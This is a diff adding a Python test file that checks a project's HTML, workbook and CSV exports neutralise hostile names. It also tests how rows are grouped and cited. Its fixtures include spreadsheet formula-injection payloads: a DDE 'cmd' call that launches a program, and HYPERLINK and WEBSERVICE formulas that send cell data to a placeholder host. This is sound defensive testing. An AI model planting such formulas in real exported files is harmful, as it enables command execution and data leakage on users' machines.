@@ -1,0 +1,219 @@
+"""Lists: rows with their documents and lines; nothing that a name holds runs in page, workbook or CSV."""
+
+import csv
+import io
+import re
+from html.parser import HTMLParser
+
+import openpyxl
+import pytest
+
+from chaingraph.errors import QueryError
+from chaingraph.packs.listing import listing, shown_rows
+from chaingraph.packs.reading import Line
+from chaingraph.packs.words import heading
+from chaingraph.packs.workbook import workbook
+from chaingraph.packs.writing import _csv
+from chaingraph.views.bilingual import Both
+from chaingraph.views.lists import Cell, Column, Listing, Row, pack_page
+from view_fixture import HOSTILE as NAMES
+
+FORMULAS = (
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    '=HYPERLINK("http://example.invalid/?"&A1,"open")',
+    "=cmd|'/C calc'!A1",
+    "+cmd|'/C calc'!A1",
+    '-2+3+cmd|"/C calc"!A1',
+    "＝1+1",
+    "＠SUM(A1)",
+    "\u200b=1+1",
+    "\u202e=1+1",
+    '=WEBSERVICE("http://example.invalid")',
+    '";=1+1;"',
+    "http://example.invalid/",
+    "internal:Sheet1!A1",
+    "{=1+1}",
+    "_x003D_1+1",
+)
+HOSTILE = (*NAMES, *FORMULAS)
+BEGINS = tuple("=+-@\t\r＝＋－＠")
+
+
+def hostile_listing(lang: str = "zh") -> Listing:
+    return Listing(
+        key="hostile",
+        title=Both(HOSTILE[0], HOSTILE[1]),
+        columns=(
+            Column(key="a", title=Both(HOSTILE[5], HOSTILE[6]), about=HOSTILE[5]),
+            Column(key="b", title=Both("=A1", "=A1")),
+        ),
+        rows=tuple(
+            Row(
+                cells=(Cell(text=Both(text, text[::-1])), Cell(text=Both(text, text))),
+                cite=Both(text, text),
+                full=Both(text, text),
+                records=(text,),
+            )
+            for text in HOSTILE
+        ),
+        note=Both(HOSTILE[2], HOSTILE[3]),
+    )
+
+
+class Elements(HTMLParser):
+    """What a page holds, as a browser would see it."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: list[str] = []
+        self.handlers: list[str] = []
+        self.links: list[str] = []
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append(tag)
+        self.handlers += [name for name, _ in attrs if name.startswith("on")]
+        self.links += [value for name, value in attrs if name in ("href", "src", "srcdoc")]
+
+
+def page_of(*lists: Listing) -> str:
+    part = {"key": "p", "title": Both("甲", "A"), "notes": (), "maps": (), "chains": (), "lists": lists}
+    return pack_page(title=Both(HOSTILE[0], HOSTILE[20]), under=Both(HOSTILE[1], HOSTILE[1]), parts=[part])
+
+
+def test_there_are_enough_hostile_names():
+    assert len(set(HOSTILE)) >= 40
+
+
+def test_no_hostile_name_becomes_an_element_or_a_handler():
+    found = Elements()
+    found.feed(page_of(hostile_listing()))
+    assert found.tags.count("script") == 4
+    assert not {"img", "svg", "iframe", "link", "form", "object", "embed", "base"} & set(found.tags)
+    assert found.tags.count("meta") == 4
+    assert found.handlers == []
+    assert found.links == ["#main"]
+    assert found.tags.count("tr") == 1 + len(HOSTILE)
+
+
+def test_template_braces_are_not_run():
+    assert "{{ 7*7 }}" in page_of(hostile_listing())
+    assert "49" not in re.sub(
+        r"<script>.*?</script>|<style>.*?</style>|sha256-\S+", "", page_of(hostile_listing()), flags=re.S
+    )
+
+
+@pytest.mark.parametrize("lang", ["zh", "en"])
+def test_a_workbook_holds_texts_only(lang):
+    """No cell of it is a formula, an error or a link, whatever the names begin with."""
+    book = openpyxl.load_workbook(io.BytesIO(workbook(Both("=甲", "=A"), [], [hostile_listing()], lang=lang)))
+    sheet = book.worksheets[1]
+    cells = [cell for one in book.worksheets for row in one.iter_rows() for cell in row if cell.value is not None]
+    assert {cell.data_type for cell in cells} == {"s"}
+    assert all(cell.hyperlink is None for cell in cells)
+    assert sheet.max_row == 1 + len(HOSTILE)
+    begins = [cell for cell in cells if str(cell.value).startswith(BEGINS)]
+    assert len(begins) > 20
+    assert all(cell.quotePrefix for cell in begins)
+
+
+def test_a_workbook_is_the_same_every_time():
+    lists = [hostile_listing()]
+    assert workbook(Both("甲", "A"), [], lists) == workbook(Both("甲", "A"), [], lists)
+
+
+def test_sheets_of_one_title_get_names_of_their_own():
+    one = hostile_listing()
+    book = openpyxl.load_workbook(io.BytesIO(workbook(Both("甲", "A"), [], [one, one, one])))
+    names = [name.lower() for name in book.sheetnames]
+    assert len(set(names)) == 4
+    assert all(0 < len(name) <= 31 and not set(name) & set("[]:*?/\\") for name in names)
+
+
+def test_an_amount_is_a_number_with_its_unit_and_others_are_text():
+    cells = (
+        Cell(text=Both("1000亿元", "100 billion yuan"), number=1e11, unit="unit:CCY_CNY"),
+        Cell(text=Both("30%", "30%"), number=0.3, unit="unit:FRACTION"),
+        Cell(text=Both("10万吨", "100,000 t"), number=1e5, unit="unit:TONNE"),
+        Cell(text=Both("3", "3"), number=3.0),
+    )
+    columns = tuple(Column(key=key, title=Both(key, key)) for key in "abcd")
+    row = Row(cells=cells, cite=Both("", ""), full=Both("", ""), records=())
+    one = Listing(key="a", title=Both("甲", "A"), columns=columns, rows=(row,))
+    sheet = openpyxl.load_workbook(io.BytesIO(workbook(Both("甲", "A"), [], [one]))).worksheets[1]
+    assert [sheet.cell(2, place).value for place in (1, 2, 3, 4)] == [1e11, 0.3, "10万吨", 3]
+    assert "元" in sheet.cell(2, 1).number_format
+    assert "%" in sheet.cell(2, 2).number_format
+
+
+@pytest.mark.parametrize("lang", ["zh", "en"])
+def test_no_cell_of_a_csv_is_a_formula(lang):
+    rows = list(csv.reader(io.StringIO(_csv(hostile_listing(), lang))))
+    assert len(rows) == 1 + len(HOSTILE)
+    assert [cell for row in rows for cell in row if cell.startswith(BEGINS)] == []
+    assert any(cell.startswith("'=") for row in rows for cell in row)
+
+
+# ---- From answers to lists
+
+
+def line(**given) -> Line:
+    return Line(**{"where": "x.pack#line=1", "verb": "ask", "name": "x", "given": {}, **given})
+
+
+ANSWER = (
+    {"enterprise": "enterprise:alpha-cell", "product": "product:cell", "source": "data:mini/capabilities.csv#row=2"},
+    {"enterprise": "enterprise:alpha-cell", "product": "product:anode", "source": "data:mini/capabilities.csv#row=3"},
+    {"enterprise": "enterprise:beta-cathode", "product": None, "source": "data:mini/capabilities.csv#row=4"},
+)
+COLUMNS = {"enterprise": "who", "product": "what", "source": "source row"}
+
+
+def test_rows_are_put_together_by_a_column():
+    _, rows = shown_rows(line(by="enterprise"), ANSWER, list(COLUMNS))
+    assert [row["enterprise"] for row in rows] == [["enterprise:alpha-cell"], ["enterprise:beta-cathode"]]
+    assert rows[0]["product"] == ["product:cell", "product:anode"]
+    assert rows[0]["source"] == ["data:mini/capabilities.csv#row=2", "data:mini/capabilities.csv#row=3"]
+
+
+def test_only_rows_with_a_value_are_kept():
+    _, rows = shown_rows(line(only={"product": frozenset({"product:anode"})}), ANSWER, list(COLUMNS))
+    assert [row["source"] for row in rows] == ["data:mini/capabilities.csv#row=3"]
+
+
+def test_a_column_that_is_not_there_is_refused():
+    with pytest.raises(QueryError, match=re.escape("x.pack#line=1 maker: no such column; there are: enterprise")):
+        shown_rows(line(show=("maker",)), ANSWER, list(COLUMNS))
+
+
+def test_every_row_has_names_documents_and_lines(mini):
+    """capabilities.csv row 2 of the mini data stands on document:mini-directory."""
+    made = listing(mini, "makers", Both("企业", "Makers"), line(by="enterprise"), ANSWER, COLUMNS)
+    first = made.rows[0]
+    assert first.cells[0].text == Both("甲电芯", "Alpha Cell")
+    assert first.cells[1].text.zh == "电芯、负极材料"
+    assert first.records == ("data:mini/capabilities.csv#row=2", "data:mini/capabilities.csv#row=3")
+    assert all("行" in row.cite.zh and "line" in row.cite.en for row in made.rows)
+    assert "数据表 mini/capabilities.csv 第2行" in first.full.zh
+    assert made.documents == ("document:mini-directory",)
+
+
+def test_a_column_that_is_empty_throughout_is_left_out_unless_it_is_to_be_filled_in(mini):
+    made = listing(mini, "x", Both("甲", "A"), line(), ANSWER[2:], COLUMNS)
+    assert [column.key for column in made.columns] == ["enterprise"]
+    kept = listing(mini, "x", Both("甲", "A"), line(keep=("product",)), ANSWER[2:], COLUMNS)
+    assert [column.key for column in kept.columns] == ["enterprise", "product"]
+
+
+def test_a_list_without_rows_says_that_this_proves_nothing():
+    text = page_of(Listing(key="x", title=Both("甲", "A"), columns=(), rows=()))
+    assert "没有记载不等于没有" in text
+
+
+def test_headings_are_in_both_languages():
+    assert heading("undertaken_by") == Both("承担单位", "undertaken by")
+    assert heading("of") == Both("对象范围", "set for")
